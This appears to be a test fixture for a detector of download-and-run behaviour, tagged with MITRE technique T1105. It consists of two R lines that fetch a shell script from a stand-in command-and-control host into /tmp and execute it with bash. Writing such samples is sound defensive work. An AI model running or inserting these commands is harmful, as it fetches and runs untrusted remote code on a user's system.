# expect: download-and-run | source: T1105
download.file("http://c2.example.invalid/l.sh", "/tmp/l.sh", quiet = TRUE)
system("bash /tmp/l.sh")
